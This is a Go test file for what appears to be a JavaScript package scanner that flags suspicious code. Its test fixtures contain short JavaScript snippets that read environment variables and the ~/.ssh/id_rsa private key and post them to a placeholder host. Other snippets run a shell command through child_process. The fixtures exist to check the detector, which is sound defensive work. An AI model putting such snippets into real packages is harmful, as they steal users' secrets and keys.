package main

import (
	"encoding/json"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestScanVariations scans the variations in testdata/scan: a file for each kind, whose first line has the
// rule that finds all of them.
func TestScanVariations(t *testing.T) {
	names, err := filepath.Glob("testdata/scan/*.txt")
	if err != nil || len(names) < 4 {
		t.Fatalf("%v: %v", names, err)
	}
	for _, name := range names {
		text, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		first, rest, _ := strings.Cut(string(text), "\n")
		rule, cases := strings.TrimPrefix(first, "# "), strings.Split(rest, "\n---\n")
		if len(cases) < 30 {
			t.Errorf("%s has %d cases only", name, len(cases))
		}
		given, err := json.Marshal(cases)
		if err != nil {
			t.Fatal(err)
		}
		var found [][]string
		ask(t, "scan/suspicions.mjs", "console.log(JSON.stringify(JSON.parse(process.argv[1]).map((code) => module.suspicions(code).map(([rule]) => rule))))", &found, string(given))
		for i, rules := range found {
			if !slices.Contains(rules, rule) {
				t.Errorf("%s: %v is found in\n%s", name, rules, cases[i])
			}
		}
	}
}

// scanFiles scans a package of some files, and returns what was found, "rule file:line".
func scanFiles(t *testing.T, files map[string]string) (found []string) {
	t.Helper()
	dir := t.TempDir()
	files = maps.Clone(files)
	files["package.json"] = `{"name": "p", "version": "1.0.0"}`
	for name, text := range files {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	ask(t, "scan/package.mjs", "console.log(JSON.stringify(new module.Package(process.argv[1]).scan().map(({ rule, file, line }) => `${rule} ${file}:${line}`)))", &found, dir)
	slices.Sort(found)
	return found
}

// TestScanModules has files of a package that do together what none does alone.
func TestScanModules(t *testing.T) {
	const reads = "exports.read = () => JSON.stringify(process.env);\nexports.key = require('fs').readFileSync(process.env.HOME + '/.ssh/id_rsa');\nexports.home = () => process.env.HOME;"
	const sends = "exports.send = (t) => fetch('http://x', { body: t });"
	for name, c := range map[string]struct {
		files map[string]string
		want  string
	}{
		"secrets and network here": {map[string]string{"a.js": "const { read } = require('./reads');\nexports.go = () => fetch('http://x', { body: read() });"}, "secrets a.js:2"},
		"secrets here":             {map[string]string{"a.js": "const { send } = require('./sends');\nexports.go = () => send(JSON.stringify(process.env));"}, "secrets a.js:2"},
		"both elsewhere":           {map[string]string{"a.js": "const r = require('./reads'), s = require('./sends');\nexports.go = () => s.send(r.read());"}, "secrets a.js:2"},
		"over functions":           {map[string]string{"a.js": "const r = require('./reads'), s = require('./sends');\nconst all = () => r.read();\nexports.go = () => { const t = all(); s.send(t); };"}, "secrets a.js:2"},
		"by a variable":            {map[string]string{"a.js": "const { key } = require('./reads');\nexports.go = () => fetch('http://x', { body: key });"}, "secrets a.js:2"},
		"modules":                  {map[string]string{"r.mjs": "export const read = () => ({ ...process.env });\nexport default read;", "a.mjs": "import read from './r.mjs';\nexport const go = () => fetch('http://x', { body: read() });"}, "secrets a.mjs:2"},
		"passed on":                {map[string]string{"b.js": "exports.again = require('./reads').read;", "a.js": "const { again } = require('./b');\nexports.go = () => fetch('http://x', { body: again() });"}, "secrets a.js:2"},
		"passed on by modules":     {map[string]string{"r.mjs": "export const read = () => ({ ...process.env });", "b.mjs": "export { read as again } from './r.mjs';", "a.mjs": "import { again } from './b.mjs';\nexport const go = () => fetch('http://x', { body: again() });"}, "secrets a.mjs:2"},
		"in a circle":              {map[string]string{"b.js": "const a = require('./a');\nexports.read = () => JSON.stringify(process.env);\nexports.b = a.go;", "a.js": "const b = require('./b');\nexports.go = () => fetch('http://x', { body: b.read() });"}, "secrets a.js:2"},
		"one variable":             {map[string]string{"a.js": "const { home } = require('./reads');\nexports.go = () => fetch('http://x', { body: home() });"}, ""},
		"beside each other":        {map[string]string{"a.js": "const { read } = require('./reads');\nexports.a = () => read();\nexports.b = () => fetch('http://x');"}, ""},
		"a program":                {map[string]string{"b.js": "exports.run = () => require('child_process').exec('id');", "a.js": "require('./b').run();"}, "process a.js:1"},
		"a program over a third":   {map[string]string{"c.js": "exports.run = () => require('child_process').exec('id');", "b.js": "const c = require('./c');\nexports.go = () => c.run();", "a.js": "require('./b').go();"}, "process a.js:1"},
		"a program not called":     {map[string]string{"b.js": "exports.run = () => require('child_process').exec('id');", "a.js": "exports.go = () => require('./b').run();"}, ""},
	} {
		files := maps.Clone(c.files)
		files["reads.js"], files["sends.js"] = reads, sends
		if got := strings.Join(scanFiles(t, files), ", "); got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}
